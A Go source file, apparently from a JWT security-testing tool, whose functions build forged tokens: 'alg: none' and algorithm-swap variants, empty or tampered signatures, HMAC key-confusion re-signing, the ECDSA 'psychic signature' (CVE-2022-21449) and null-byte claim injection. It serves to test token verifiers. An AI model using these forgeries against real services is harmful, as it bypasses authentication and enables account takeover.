package jwtforge

import (
	"crypto/hmac"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"fmt"
	"hash"
	"strings"
)

// The forgeries below keep whatever of the original token they do not name
// byte for byte, so a target that accepts one has skipped exactly the
// verification that the forgery targets.

// WithClaims returns the token with its payload replaced by edit's result
// and the original header and signature kept (RFC 8725 §3.3; CHECKS.md F01,
// F14, F16).
func (t *Token) WithClaims(edit func(claims map[string]any)) string {
	c := t.ClaimsCopy()
	edit(c)
	return Compact(t.RawHeader, Segment(c), t.RawSig)
}

// WithHeader returns the token with its header replaced by edit's result
// and the original payload and signature kept (CHECKS.md F05, F09, F16).
func (t *Token) WithHeader(edit func(header map[string]any)) string {
	h := t.HeaderCopy()
	edit(h)
	return Compact(Segment(h), t.RawClaims, t.RawSig)
}

// TruncatedSignature drops the last four characters of the signature
// (CHECKS.md F02).
func (t *Token) TruncatedSignature() string {
	sig := t.RawSig
	if len(sig) > 4 {
		sig = sig[:len(sig)-4]
	}
	return Compact(t.RawHeader, t.RawClaims, sig)
}

// FlippedSignature flips the lowest bit of the signature's first byte
// (CHECKS.md F02).
func (t *Token) FlippedSignature() string {
	sig := t.Signature()
	if len(sig) == 0 {
		sig = []byte{0}
	}
	sig[0] ^= 1
	return Compact(t.RawHeader, t.RawClaims, Segment(sig))
}

// EmptySignature leaves the third segment empty: "header.payload."
// (CVE-2020-28042; CHECKS.md F03).
func (t *Token) EmptySignature() string {
	return Compact(t.RawHeader, t.RawClaims, "")
}

// ZeroSignature replaces the signature with as many zero bytes (CHECKS.md
// F03).
func (t *Token) ZeroSignature() string {
	return Compact(t.RawHeader, t.RawClaims, Segment(make([]byte, max(len(t.Signature()), 1))))
}

// AlgNone sets the alg header to spelling, one of the case variants of
// "none", and keeps or drops the original signature (CVE-2015-2951;
// RFC 8725 §3.1; CHECKS.md F04, F05).
func (t *Token) AlgNone(spelling string, keepSignature bool) string {
	h := t.HeaderCopy()
	h["alg"] = spelling
	sig := ""
	if keepSignature {
		sig = t.RawSig
	}
	return Compact(Segment(h), t.RawClaims, sig)
}

// SwapAlg names alg in the header and keeps the original signature
// (RFC 8725 §3.1; CHECKS.md F09).
func (t *Token) SwapAlg(alg string) string {
	return t.WithHeader(func(h map[string]any) { h["alg"] = alg })
}

// Sibling returns the algorithm of the same family as alg with the given
// hash size: Sibling("HS256", 512) is "HS512". It returns "" for an alg it
// does not know.
func Sibling(alg string, bits int) string {
	for _, family := range []string{"HS", "RS", "PS", "ES"} {
		if strings.HasPrefix(alg, family) && len(alg) == 5 {
			return fmt.Sprintf("%s%d", family, bits)
		}
	}
	return ""
}

// hmacHash returns the hash of an HS* algorithm (RFC 7518 §3.2).
func hmacHash(alg string) (func() hash.Hash, error) {
	switch alg {
	case "HS256":
		return sha256.New, nil
	case "HS384":
		return sha512.New384, nil
	case "HS512":
		return sha512.New, nil
	}
	return nil, fmt.Errorf("jwtforge: %q is not an HMAC algorithm", alg)
}

// SignHMAC signs header and claims with key under an HS* alg, setting the
// alg header. Unlike a JWT library it accepts any key, the empty one
// included, because weak keys are what the forgeries are about.
func SignHMAC(alg string, key []byte, header, claims map[string]any) (string, error) {
	h, err := hmacHash(alg)
	if err != nil {
		return "", err
	}
	header = cloneOrEmpty(header)
	header["alg"] = alg
	input := Segment(header) + "." + Segment(claims)
	mac := hmac.New(h, key)
	mac.Write([]byte(input))
	return input + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil)), nil
}

// ResignHMAC keeps the token's header (but alg) and claims and signs them
// anew with key: the blank secret (CVE-2019-20933; CHECKS.md F06), a
// public key's bytes (CVE-2016-10555; F08) or a kid injection's key (F12).
func (t *Token) ResignHMAC(alg string, key []byte, editHeader func(map[string]any)) (string, error) {
	h := t.HeaderCopy()
	if editHeader != nil {
		editHeader(h)
	}
	return SignHMAC(alg, key, h, t.Claims)
}

// VerifiesWithHMAC reports whether the token's HS* signature verifies with
// key, for the offline dictionary check of CHECKS.md F07.
func (t *Token) VerifiesWithHMAC(key []byte) bool {
	h, err := hmacHash(t.Alg())
	if err != nil {
		return false
	}
	mac := hmac.New(h, key)
	mac.Write([]byte(t.RawHeader + "." + t.RawClaims))
	return hmac.Equal(mac.Sum(nil), t.Signature())
}

// PsychicDER is the DER encoding of the ECDSA signature r = s = 0, which
// Java 15–18 accepted for any message (CVE-2022-21449).
var PsychicDER = []byte{0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00}

// psychicSizes are the JWS (R || S) signature sizes of RFC 7518 §3.4.
var psychicSizes = map[string]int{"ES256": 64, "ES384": 96, "ES512": 132}

// Psychic names alg, an ES* algorithm, in the header and sets the signature
// to r = s = 0, DER-encoded or as the all-zero JWS form (CHECKS.md F13).
func (t *Token) Psychic(alg string, der bool) (string, error) {
	size, ok := psychicSizes[alg]
	if !ok {
		return "", fmt.Errorf("jwtforge: %q is not an ECDSA algorithm", alg)
	}
	sig := make([]byte, size)
	if der {
		sig = PsychicDER
	}
	h := t.HeaderCopy()
	h["alg"] = alg
	return Compact(Segment(h), t.RawClaims, Segment(sig)), nil
}

// NullByteAfterPayload appends a NUL and marker to the decoded payload
// before re-encoding it, keeping the signature: a parser that stops at NUL
// sees the original claims (ZAP-JWT's null-byte attack; CHECKS.md F15). The
// NUL is inside the base64url text because HTTP forbids it in a header.
func (t *Token) NullByteAfterPayload(marker string) string {
	raw, _ := base64.RawURLEncoding.DecodeString(t.RawClaims)
	raw = append(append(raw, 0), marker...)
	return Compact(t.RawHeader, Segment(raw), t.RawSig)
}

// NullByteInClaim appends a NUL and marker to a string claim, keeping the
// signature (CHECKS.md F15).
func (t *Token) NullByteInClaim(claim, marker string) string {
	return t.WithClaims(func(c map[string]any) {
		s, _ := c[claim].(string)
		c[claim] = s + "\x00" + marker
	})
}

// Crit adds an unknown critical header parameter (RFC 7515 §4.1.11, which
// says a recipient MUST reject it; CHECKS.md F18), keeping the signature.
func (t *Token) Crit() string {
	return t.WithHeader(func(h map[string]any) { addCrit(h) })
}

func addCrit(h map[string]any) {
	h["crit"] = []string{"x-unknown"}
	h["x-unknown"] = 1
}

// AddCrit is addCrit for callers that mint: it adds the unknown critical
// parameter to a header about to be signed.
func AddCrit(h map[string]any) { addCrit(h) }

func cloneOrEmpty(m map[string]any) map[string]any {
	out := make(map[string]any, len(m)+1)
	for k, v := range m {
		out[k] = v
	}
	return out
}
